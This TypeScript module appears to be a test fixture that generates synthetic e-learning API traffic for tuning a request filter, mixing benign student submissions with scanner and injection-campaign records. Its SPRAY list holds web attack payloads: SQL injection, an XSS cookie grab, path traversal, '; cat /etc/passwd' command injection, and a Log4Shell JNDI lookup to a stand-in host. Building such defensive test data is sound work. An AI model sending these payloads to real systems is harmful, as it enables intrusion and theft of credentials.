/**
 * @module eval/lib/tuning-traffic
 * A day of an e-learning platform's traffic for `apiward tune`: students
 * submitting SQL and shell solutions (the fields carry code by design),
 * tutors answering tickets that quote commands, everyone browsing and
 * searching; and the hostile traffic an operator must not be talked into
 * excluding: a scanner spraying payloads over every parameter (answered 200,
 * the worst case), and a focused campaign whose injections the app refuses
 * (400). Deterministic for a seed. Records in the traffic-record format
 * (DESIGN.md) with `ip`, `status` and `ts`.
 */
import { mulberry32 } from "../../core/discovery/hash.ts";
import type { TrafficRecord } from "../../core/types.ts";

const SQL = [
  "SELECT name, population FROM world WHERE continent = 'Europe' ORDER BY population DESC LIMIT 5;",
  "SELECT c.name, COUNT(o.id) AS orders FROM customers c LEFT JOIN orders o ON o.customer_id = c.id GROUP BY c.name HAVING COUNT(o.id) > 3;",
  "SELECT title FROM movies WHERE year BETWEEN 1990 AND 1999 AND genre = 'Drama' UNION SELECT title FROM series WHERE year < 1990;",
  "SELECT AVG(grade) FROM enrollments WHERE course_id = 101 OR course_id = 102;",
  "SELECT name FROM world WHERE name LIKE '%land' OR continent = 'Oceania';",
];
const BASH = [
  '#!/bin/bash\nfor f in *.txt; do\n  echo "$f: $(wc -l < "$f")"\ndone',
  "cat access.log | grep ' 404 ' | wc -l",
  "find . -name '*.log' -mtime +7 -exec rm {} \\;",
  "ls -la /var/log | sort -k5 -n | tail -3",
];
const TICKETS = [
  "After the upgrade I ran `sudo systemctl restart nginx && tail -n 50 /var/log/nginx/error.log` and it still fails.",
  "The exercise checker says my query fails: SELECT * FROM users WHERE id = 1; what is wrong?",
  "Running `npm ci && npm test -- --coverage | tee test.log` locally works but the grader times out.",
];
const SEARCHES = ["joins", "window functions", "bash loops", "regex basics", "group by", "subqueries"];
const SPRAY = [
  "' OR '1'='1",
  "1 UNION SELECT username, password FROM users--",
  "<script>alert(document.cookie)</script>",
  "../../../../etc/passwd",
  "; cat /etc/passwd",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell payload, literal text
  "${jndi:ldap://203.0.113.7/a}",
];

/** The day's records in time order. */
export function tuningTraffic(seed = 1): TrafficRecord[] {
  const r = mulberry32(seed);
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(r() * xs.length)] as T;
  const out: TrafficRecord[] = [];
  let ts = 1_760_000_000;
  const push = (rec: TrafficRecord) => {
    ts += 1 + Math.floor(r() * 20);
    out.push({ ts, ...rec });
  };
  const json = { "content-type": "application/json", "user-agent": "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0" };
  for (let i = 0; i < 400; i++) {
    const student = `198.51.100.${1 + Math.floor(r() * 40)}`;
    const x = r();
    if (x < 0.3) {
      const lang = r() < 0.6 ? "sql" : "bash";
      const slug = pick(["joins-1", "group-by-2", "loops-3", "filters-4"]);
      push({
        method: "POST",
        url: `/api/v2/exercises/${slug}/submit`,
        headers: json,
        body: JSON.stringify({ language: lang, solution: lang === "sql" ? pick(SQL) : pick(BASH), run_tests: true }),
        ip: student,
        status: 200,
      });
    } else if (x < 0.4) {
      push({
        method: "POST",
        url: "/api/v2/tickets",
        headers: json,
        body: JSON.stringify({ subject: "Grader problem", description: pick(TICKETS) }),
        ip: student,
        status: 201,
      });
    } else if (x < 0.7) {
      push({ method: "GET", url: `/api/v2/search?q=${encodeURIComponent(pick(SEARCHES))}`, ip: student, status: 200 });
    } else {
      push({ method: "GET", url: `/api/v2/courses/${100 + Math.floor(r() * 30)}`, ip: student, status: 200 });
    }
  }
  // A scanner from three addresses sprays every parameter it finds; the app answers 200 regardless.
  for (let i = 0; i < 60; i++) {
    const ip = `203.0.113.${10 + (i % 3)}`;
    const payload = pick(SPRAY);
    if (i % 3 === 0) push({ method: "GET", url: `/api/v2/search?q=${encodeURIComponent(payload)}`, ip, status: 200 });
    else if (i % 3 === 1)
      push({
        method: "POST",
        url: `/api/v2/exercises/joins-1/submit`,
        headers: json,
        body: JSON.stringify({ language: payload, solution: "SELECT 1;", run_tests: true }),
        ip,
        status: 200,
      });
    else
      push({
        method: "POST",
        url: "/api/v2/tickets",
        headers: json,
        body: JSON.stringify({ subject: payload, description: "hello" }),
        ip,
        status: 201,
      });
  }
  // A campaign from eight addresses injects into the search box only; the app refuses it.
  for (let i = 0; i < 40; i++)
    push({
      method: "GET",
      url: `/api/v2/search?q=${encodeURIComponent(pick(SPRAY.slice(0, 2)))}`,
      ip: `192.0.2.${20 + (i % 8)}`,
      status: 400,
    });
  return out.sort((a, b) => (a.ts as number) - (b.ts as number));
}
